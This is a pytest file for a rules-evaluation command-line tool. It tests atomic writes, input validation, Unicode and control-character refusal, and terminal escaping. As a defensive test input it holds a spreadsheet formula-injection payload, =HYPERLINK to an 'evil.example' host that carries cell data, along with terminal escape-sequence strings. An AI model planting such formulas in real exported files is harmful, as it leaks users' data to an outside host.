"""Nothing lost (issue 12, finding 1): an output is never one of the inputs, and is written
atomically, so a run that fails part-way leaves a previous output as it was."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from attest_rules.cli.app import main
from attest_rules.engine.evaluator import Evaluator

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "quorate-session-2025.yaml"


def _batch(tmp_path: Path, lines: int = 3) -> Path:
    src = tmp_path / "cases.jsonl"
    src.write_text(
        "".join(
            json.dumps({"id": f"c{n}", "session": {"date": "2025-03-03"}}) + "\n"
            for n in range(lines)
        ),
        encoding="utf-8",
    )
    return src


def test_a_batch_never_writes_over_its_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _batch(tmp_path)
    before = src.read_bytes()
    assert main(["evaluate", "--jsonl", str(src), str(src)]) == 1
    assert "refusing to write" in capsys.readouterr().err
    assert src.read_bytes() == before
    link = tmp_path / "link.jsonl"  # another name for the same file
    link.symlink_to(src)
    assert main(["evaluate", "--jsonl", str(src), str(link)]) == 1
    assert src.read_bytes() == before


def test_a_batch_that_fails_part_way_leaves_the_previous_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    src = _batch(tmp_path)
    out = tmp_path / "answers.jsonl"
    out.write_text("the previous answers\n", encoding="utf-8")
    calls = {"n": 0}
    real = Evaluator.evaluate

    def failing(self: Evaluator, *args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt  # the run is stopped on its second line
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Evaluator, "evaluate", failing)
    assert main(["evaluate", "--jsonl", str(src), str(out)]) == 130  # Ctrl-C: one line
    assert out.read_text(encoding="utf-8") == "the previous answers\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["answers.jsonl", "cases.jsonl"]


def test_a_complete_batch_replaces_the_output(tmp_path: Path) -> None:
    src = _batch(tmp_path)
    out = tmp_path / "answers.jsonl"
    out.write_text("old\n", encoding="utf-8")
    os.chmod(out, 0o640)
    assert main(["evaluate", "--jsonl", str(src), str(out), "--answers-only"]) == 0
    assert len(out.read_text(encoding="utf-8").splitlines()) == 3
    assert out.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_table_is_never_written_over_a_case(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    case = tmp_path / "case.yaml"
    shutil.copy(EXAMPLE, case)
    before = case.read_bytes()
    assert main(["annex2", str(case), "--format", fmt, "-o", str(case)]) == 1
    assert "refusing to write" in capsys.readouterr().err
    assert case.read_bytes() == before
    # nor over a case file of a folder given as input
    assert main(["annex2", str(tmp_path), "--format", fmt, "-o", str(case)]) == 1
    assert case.read_bytes() == before
    table = tmp_path / f"table.{fmt}"
    assert main(["annex2", str(case), "--format", fmt, "-o", str(table)]) == 0
    assert table.stat().st_size > 0 and case.read_bytes() == before


# Finding 12: I/O problems and an interrupted run are one clear line, never an internal error.


def test_a_missing_or_unwritable_file_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = str(tmp_path / "nope.jsonl")
    for argv in (
        ["evaluate", "--jsonl", missing, "-"],
        ["impact", missing, "--from", "2024-10-01", "--to", "2025-01-01"],
        ["evaluate", "--jsonl", str(_batch(tmp_path)), str(tmp_path / "no" / "such" / "dir.jsonl")],
    ):
        assert main(argv) == 1, argv
        err = capsys.readouterr().err
        assert err.startswith("attest-rules: cannot") and "internal error" not in err, err


def test_the_monitor_names_a_missing_events_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("durable")
    assert main(["monitor", str(tmp_path / "events.jsonl")]) == 1
    err = capsys.readouterr().err
    assert "cannot" in err and "events.jsonl" in err and "internal error" not in err


def test_a_test_run_that_finds_no_case_files_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["test", str(tmp_path)]) == 1
    assert "no case files in" in capsys.readouterr().err


def test_a_bad_interpretation_in_one_case_file_names_it_and_the_others_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = Path(__file__).parent / "cases" / "session-quorum.yaml"
    shutil.copy(good, tmp_path / "a-good.yaml")
    (tmp_path / "b-bad.yaml").write_text(
        "description: a bad interpretation\n"
        "cases:\n"
        "  - name: switched to nothing\n"
        "    interpretations: {quorum.composition: everyone}\n"
        "    case: {}\n"
        "    expect: {session.quorum: {status: undetermined}}\n",
        encoding="utf-8",
    )
    (tmp_path / "c-broken.yaml").write_text("cases: [\n", encoding="utf-8")
    assert main(["test", str(tmp_path)]) == 1
    out = capsys.readouterr().out
    assert "FAILED " + str(tmp_path / "b-bad.yaml") + ": switched to nothing" in out
    assert "has no choice 'everyone'" in out
    assert "FAILED " + str(tmp_path / "c-broken.yaml") in out
    passed = len(yaml.safe_load(good.read_text(encoding="utf-8"))["cases"])
    assert out.strip().splitlines()[-1].startswith(f"{passed} passed, 2 failed")


# Finding 8: a key given twice, NaN or Infinity in any JSON input is refused, named.


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ('{"session": {"date": "2025-03-03", "date": "2020-01-01"}}', "'date' is given twice"),
        ('{"session": {"date": "2025-03-03"}, "x": NaN}', "NaN is not a number JSON allows"),
        ('{"x": Infinity}', "Infinity is not a number JSON allows"),
        ('{"x": -Infinity}', "-Infinity is not a number JSON allows"),
    ],
)
def test_a_batch_line_with_a_duplicate_key_or_a_non_finite_number_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, why: str
) -> None:
    src = tmp_path / "cases.jsonl"
    good = json.dumps({"id": "ok", "session": {"date": "2025-03-03"}})
    src.write_text(f"{good}\n{line}\n{good}\n", encoding="utf-8")
    assert main(["evaluate", "--jsonl", str(src), "-", "--answers-only"]) == 1
    rows = [json.loads(r) for r in capsys.readouterr().out.splitlines()]
    assert len(rows) == 3 and why in rows[1]["error"] and "line 2" in rows[1]["error"]


def test_an_event_with_a_duplicate_key_is_refused_and_the_stream_goes_on(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("durable")
    events = tmp_path / "events.jsonl"
    events.write_text(
        '{"case": "c", "type": "tick", "at": "2025-03-03", "at": "2025-03-04"}\n'
        "{not json\n"
        '{"case": "c", "type": "session_opened", "at": "2025-03-03", "members": ["A"]}\n'
        '{"case": "c", "type": "case_closed"}\n',
        encoding="utf-8",
    )
    assert main(["monitor", str(events)]) == 1
    out = [json.loads(r) for r in capsys.readouterr().out.splitlines()]
    assert out[0] == {
        "line": 1,
        "error": "malformed event: the key 'at' is given twice in one object",
    }
    assert out[1]["line"] == 2 and "not JSON" in out[1]["error"]
    assert out[2]["finding"] == "case.closed"


def test_a_record_with_a_duplicate_key_is_not_a_record(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fixture = next((Path(__file__).parent / "fixtures").glob("record-*.json"))
    text = fixture.read_text(encoding="utf-8").replace(
        '"format": 1,', '"format": 1,\n  "format": 1,', 1
    )
    forged = tmp_path / "record.json"
    forged.write_text(text, encoding="utf-8")
    assert main(["replay", str(forged)]) == 1
    assert "is not a decision record: the key 'format' is given twice" in capsys.readouterr().err


# Finding 10: no formula reaches a spreadsheet; every cell is typed.

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _evil_case(tmp_path: Path) -> Path:
    import yaml

    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    data["worker"]["full_name"] = EVIL
    data["worker"]["education"] = "@SUM(1+1)"
    case = tmp_path / "evil.yaml"
    case.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return case


def test_a_csv_cell_never_starts_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import csv
    import io

    assert main(["annex2", str(_evil_case(tmp_path))]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = rows[1]
    assert cells[2] == "'" + EVIL and cells[3] == "'@SUM(1+1)"
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows[1:] for c in row)


def test_an_xlsx_cell_is_text_or_a_real_date_never_a_formula(tmp_path: Path) -> None:
    import datetime as dt

    from openpyxl import load_workbook

    out = tmp_path / "table.xlsx"
    assert main(["annex2", str(_evil_case(tmp_path)), "--format", "xlsx", "-o", str(out)]) == 0
    sheet = load_workbook(out).active
    assert sheet is not None
    name, date = sheet.cell(row=4, column=3), sheet.cell(row=4, column=8)
    assert name.value == EVIL and name.data_type == "s"
    assert isinstance(date.value, dt.datetime) and date.value.date() == dt.date(2025, 3, 3)
    assert sheet.cell(row=4, column=1).value == 1  # the row number, a number


# Finding 11: digits are ASCII where the law means digits; a name is NFC, with no control,
# zero-width or bidirectional-override character.


@pytest.mark.parametrize("iin", ["٩٠٠١٠١٣٠٠١٢٣", "９００１０１３００１２３"])
def test_an_iin_is_twelve_ascii_digits(iin: str) -> None:
    import attest_rules

    with pytest.raises(attest_rules.FactsError) as exc:
        attest_rules.parse_case({"worker": {"iin": iin}})
    assert exc.value.problems[0][0] == "worker.iin"


@pytest.mark.parametrize(
    ("name", "code"),
    [("A\x1b[31mB", "U+001B"), ("Ai\u200bgul", "U+200B"), ("abc\u202edef", "U+202E")],
)
def test_a_name_with_a_hidden_character_is_refused(name: str, code: str) -> None:
    import attest_rules

    with pytest.raises(attest_rules.FactsError) as exc:
        attest_rules.parse_case({"worker": {"full_name": name}})
    (field, reason), *_ = exc.value.problems
    assert field == "worker.full_name" and code in reason


def test_a_name_is_nfc_normalised() -> None:
    import attest_rules

    case = attest_rules.parse_case({"worker": {"full_name": "A\u0301ру"}})  # A + combining acute
    assert case.worker.full_name == "\u00c1ру"  # type: ignore[attr-defined]


def test_terms_and_expressions_take_ascii_digits_only() -> None:
    from attest_rules.errors import ExpressionError
    from attest_rules.lang.syntax import parse
    from attest_rules.legal_time import Term, TermError

    with pytest.raises(TermError):
        Term.parse("٣ years")
    with pytest.raises(ExpressionError):
        parse("count(session.present) >= ٣")
    assert Term.parse("3 years").amount == 3


def test_a_list_over_its_stated_limit_is_refused_at_once() -> None:
    """Finding 7: 20,000 members all present took 7 s (membership tested in lists); the facts'
    lists now state their limit, and a longer one is refused, named, before anything runs."""
    import attest_rules

    names = [f"m{n}" for n in range(20_000)]
    with pytest.raises(attest_rules.FactsError) as exc:
        attest_rules.parse_case({"commission": {"members": names}, "session": {"present": names}})
    fields = {field for field, _ in exc.value.problems}
    assert fields == {"commission.members", "session.present"}
    assert all("at most 1000" in why for _, why in exc.value.problems)


def test_what_reaches_the_terminal_is_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 12, finding 11: a file name (or any text in an error) with escape or control
    characters is shown escaped, never run by the terminal."""
    assert main(["evaluate", str(tmp_path / "no\x1b[2Jfile.yaml")]) == 1
    assert main(["show", "x\x1b]0;title\x07"]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "no\\x1b[2Jfile.yaml" in err


def test_a_lone_surrogate_or_a_bidi_override_is_refused_in_a_case_and_an_event(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    batch = tmp_path / "cases.jsonl"
    batch.write_text('{"id": "a\\ud800b", "session": {"date": "2025-03-03"}}\n', encoding="utf-8")
    assert main(["evaluate", "--jsonl", str(batch), "-"]) == 1
    (line,) = capsys.readouterr().out.splitlines()
    assert "lone surrogate (U+D800" in json.loads(line)["error"]
    pytest.importorskip("durable")
    events = tmp_path / "events.jsonl"
    events.write_text('{"case": "c\\u202e", "type": "member_arrived", "member": "A"}\n')
    assert main(["monitor", str(events)]) == 1
    (line,) = capsys.readouterr().out.splitlines()
    assert "U+202E" in json.loads(line)["error"] and "case" not in json.loads(line)


def test_a_new_output_gets_the_mode_a_new_file_gets(tmp_path: Path) -> None:
    """Written through a temporary file, a new output still gets 0666 less the umask (as
    ``open`` would give it), not the temporary file's 0600."""
    src = _batch(tmp_path)
    out = tmp_path / "answers.jsonl"
    old = os.umask(0o022)
    try:
        assert main(["evaluate", "--jsonl", str(src), str(out)]) == 0
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o644
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
